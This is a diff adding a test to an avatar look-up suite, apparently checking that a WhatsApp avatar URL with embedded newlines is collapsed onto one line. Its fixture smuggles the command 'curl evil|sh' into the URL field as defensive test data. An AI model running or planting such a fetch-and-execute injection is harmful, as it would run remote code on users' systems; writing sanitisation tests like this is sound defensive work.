@@ -179,6 +179,16 @@ describe('a look-up', () => {
     });
   }
 
+  it('keeps a link as it is opened: on one line', async () => {
+    const { store } = await windows.open();
+    const picture = await (await windows.open()).lookUp();
+    const base64Avatar = (await readFile(picture.image?.path ?? '')).toString('base64');
+    const reply = { urlAvatar: 'https://pps.whatsapp.net/a\ncurl evil|sh\n', base64Avatar };
+    windows.world.simulator.fail('getAvatar', () => json(200, reply));
+    const result = await (await windows.open({ store })).lookUp({ refresh: true });
+    assert.equal(result.urlAvatar, 'https://pps.whatsapp.net/acurl%20evil|sh');
+  });
+
   it('takes in an answer that came by notification, unless it is older than what is stored', async () => {
     const clock = new InstantClock();
     const { lookUp, avatars, lookedUp } = await windows.open({ clock });
